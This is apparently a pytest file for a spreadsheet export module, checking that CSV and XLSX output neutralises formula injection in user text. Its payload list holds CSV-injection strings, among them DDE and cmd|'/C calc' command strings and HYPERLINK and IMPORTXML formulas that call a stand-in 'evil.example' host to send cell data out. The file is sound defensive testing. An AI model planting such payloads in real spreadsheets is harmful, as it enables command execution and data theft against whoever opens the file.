"""A child's words in a spreadsheet stay words: 600 payloads, no formula, no link, no loss."""

from __future__ import annotations

import csv
import zipfile
from io import BytesIO, StringIO
from itertools import product

import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from tests.naughty import NAUGHTY
from voice.web.sheets import Table, csv_text, quoted, xlsx

_STARTS = tuple("=+-@\t\r\n＝＋－＠﹦﹢﹣﹫−")
_BEFORE = ("", " ", "\u00a0", "\u200b", "\ufeff", "\u202e")
_REST = (
    "1+1",
    'HYPERLINK("http://evil.example","click")',
    "cmd|'/C calc'!A0",
    "SUM(A1:A9)*cmd",
    "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
)  # fmt: skip
PAYLOADS = [f"{before}{start}{rest}" for before, start, rest in product(_BEFORE, _STARTS, _REST)]
FORMULA = tuple("=+-@＝＋－＠﹦﹢﹣﹫−")


def _one_column(texts: list[str]) -> Table:
    return Table("Answers", ("Words",), [(each,) for each in texts])


def test_there_are_enough_payloads() -> None:
    assert len(PAYLOADS) >= 500


def test_in_csv_nothing_can_be_taken_for_a_formula() -> None:
    texts = [*PAYLOADS, *NAUGHTY.values()]
    written = csv_text(_one_column(texts))
    assert written.startswith("\ufeff")
    rows = list(csv.reader(StringIO(written.removeprefix("\ufeff"), newline="")))[1:]
    assert len(rows) == len(texts)
    for (cell,), text in zip(rows, texts, strict=True):
        assert cell in {text, f"'{text}"}, "nothing but an apostrophe is ever added"
        assert not cell.startswith(_STARTS), cell
        assert not cell.lstrip(" \u00a0\u200b\ufeff\u202e").startswith(FORMULA), cell


def test_in_xlsx_every_cell_is_a_string_and_whole() -> None:
    texts = [*PAYLOADS, *(each for name, each in NAUGHTY.items() if name != "noncharacters")]
    made = xlsx([_one_column(texts)])
    sheet = load_workbook(BytesIO(made))["Answers"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert len(cells) == len(texts)
    assert {each.data_type for each in cells} == {"s"}
    assert all(each.hyperlink is None for each in cells)
    with zipfile.ZipFile(BytesIO(made)) as parts:
        for name in parts.namelist():
            assert b"<f>" not in parts.read(name), name
            assert b"<hyperlink " not in parts.read(name), name
    for cell, text in zip(cells, texts, strict=True):
        # XML makes one kind of line of the three.
        assert _lines(unescape(str(cell.value))) == _lines(text)


def _lines(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


@pytest.mark.parametrize("text", ["a\ufffeb", "\uffff", "\ud800", "x\udfff"])
def test_what_xml_cannot_hold_is_marked_and_the_book_still_opens(text: str) -> None:
    sheet = load_workbook(BytesIO(xlsx([_one_column([text])])))["Answers"]
    assert "\ufffd" in str(sheet["A2"].value)


@pytest.mark.parametrize("text", ["", "hello", "so ;-)", "a=b", "2+2", "مرحبا", "'quoted'", "😢"])
def test_ordinary_words_stay_as_they_are(text: str) -> None:
    assert quoted(text) == text


def test_sheets_have_names_that_a_spreadsheet_takes() -> None:
    names = ["a/b:c*d?[e]'", "x" * 40, "[]"]
    made = xlsx([Table(each, ("A",), []) for each in names])
    assert load_workbook(BytesIO(made)).sheetnames == ["a b c d  e", "x" * 31, "Sheet"]
